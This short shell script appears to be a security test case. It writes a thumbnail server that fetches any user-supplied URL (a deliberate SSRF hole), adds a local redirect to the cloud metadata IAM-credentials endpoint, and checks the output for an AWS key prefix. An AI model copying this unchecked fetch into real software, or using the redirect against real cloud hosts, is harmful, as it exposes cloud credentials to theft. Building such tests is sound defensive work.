#!/bin/sh
. /opt/case/case.sh

cat >/srv/app/thumb.py <<'END'
import http.server, threading, urllib.request as u, urllib.parse as p
class Away(http.server.BaseHTTPRequestHandler):
    def do_GET(self): self.send_response(302); self.send_header("Location", "http://169.254.169.254/latest/meta-data/iam/security-credentials/web"); self.end_headers()
class App(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        b = u.urlopen(p.parse_qs(p.urlsplit(self.path).query)["u"][0]).read(); open("/tmp/thumb", "wb").write(b); self.send_response(200); self.end_headers(); self.wfile.write(b)
threading.Thread(target=http.server.HTTPServer(("127.0.0.1", 8001), Away).serve_forever, daemon=True).start()
s = http.server.HTTPServer(("", 8000), App); s.timeout = 9; s.handle_request()
END
python3 /srv/app/thumb.py
grep -q AKIA /tmp/thumb
took_place
